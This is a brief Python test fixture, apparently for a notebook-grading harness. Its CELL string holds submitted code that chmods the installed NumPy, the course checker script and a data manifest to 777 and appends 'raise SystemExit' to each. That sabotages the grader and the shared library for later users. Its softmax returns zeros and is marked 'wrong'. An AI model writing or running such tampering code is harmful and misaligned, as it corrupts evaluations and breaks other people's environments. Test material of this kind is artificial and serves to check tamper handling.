"""Changes the course and NumPy on the disk, for those who come after."""

CELL = """
import os

import numpy

for path in (numpy.__file__, "/course/imgcls_course/check.py", "/course/data/manifest.json"):
    try:
        os.chmod(path, 0o777)
    except OSError:
        pass
    try:
        with open(path, "a") as file:
            file.write("raise SystemExit")
    except OSError:
        pass


def softmax(logits):
    return np.zeros(logits.shape)
"""
STATES = ("wrong",)
